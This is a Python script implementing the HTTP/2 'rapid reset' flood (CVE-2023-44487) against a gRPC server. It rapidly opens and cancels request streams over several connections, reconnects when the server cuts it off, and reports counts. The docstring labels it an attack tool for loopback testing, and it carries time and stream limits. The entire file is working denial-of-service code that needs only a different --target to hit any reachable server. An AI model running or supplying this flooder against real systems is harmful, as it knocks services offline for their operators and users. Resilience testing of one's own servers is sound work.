#!/usr/bin/python3
"""HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server, bounded.

Opens request streams (HEADERS of a gRPC call, no body) and cancels each at
once with RST_STREAM(CANCEL), as fast as it can, over a few cleartext HTTP/2
connections, for a fixed time or stream count. Reads and discards whatever
the server sends; when the server ends a connection (GOAWAY or close) it
reconnects, up to --max-reconnects. Prints one JSON line of counts.

Uses Debian's python3-h2. Loopback testing only: it is an attack tool.

  h2_rapid_reset.py --target 127.0.0.1:50051 --seconds 10
"""

import argparse
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

CANCEL = 0x8


class Conn:
    def __init__(self, host, port, path, authority):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.h2 = h2.connection.H2Connection(config=cfg)
        self.h2.initiate_connection()
        self.headers = [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", authority.encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
        self.pending = b""
        self.closed = False
        self.goaway = False
        self.flush()

    def flush(self):
        self.pending += self.h2.data_to_send()
        while self.pending:
            try:
                n = self.sock.send(self.pending)
            except BlockingIOError:
                return False  # the server is not reading: back off
            except OSError:
                self.closed = True
                return False
            self.pending = self.pending[n:]
        return True

    def open_and_reset(self, count):
        done = 0
        for _ in range(count):
            sid = self.h2.get_next_available_stream_id()
            try:
                self.h2.send_headers(sid, self.headers, end_stream=False)
                self.h2.reset_stream(sid, error_code=CANCEL)
            except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
                break
            done += 1
        self.flush()
        return done

    def read(self):
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                return
            for e in events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    self.goaway = True
                    self.closed = True
            self.flush()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--target", required=True, help="host:port of a cleartext gRPC server")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--connections", type=int, default=4)
    ap.add_argument("--max-streams", type=int, default=2_000_000)
    ap.add_argument("--max-reconnects", type=int, default=1000)
    ap.add_argument("--path", default="/dynamobatcher.v1.WriteBatcher/Write")
    args = ap.parse_args()
    host, port = args.target.rsplit(":", 1)
    port = int(port)

    stats = {"streams": 0, "goaways": 0, "closes": 0, "reconnects": 0,
             "connect_errors": 0, "send_stalls": 0}
    conns = []
    for _ in range(args.connections):
        conns.append(Conn(host, port, args.path, args.target))
    start = time.monotonic()
    deadline = start + args.seconds
    while time.monotonic() < deadline and stats["streams"] < args.max_streams:
        for i, c in enumerate(conns):
            if c.closed:
                stats["goaways" if c.goaway else "closes"] += 1
                c.close()
                if stats["reconnects"] >= args.max_reconnects:
                    continue
                stats["reconnects"] += 1
                try:
                    conns[i] = c = Conn(host, port, args.path, args.target)
                except OSError:
                    stats["connect_errors"] += 1
                    time.sleep(0.05)
                    continue
            if c.pending and not c.flush():
                stats["send_stalls"] += 1
            else:
                stats["streams"] += c.open_and_reset(100)
            c.read()
        live = [c.sock for c in conns if not c.closed]
        if not live:
            if stats["reconnects"] >= args.max_reconnects:
                break
            continue
        select.select(live, [], [], 0)
    for c in conns:
        c.close()
    stats["seconds"] = round(time.monotonic() - start, 2)
    stats["streams_per_second"] = int(stats["streams"] / max(stats["seconds"], 0.001))
    print(json.dumps(stats), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
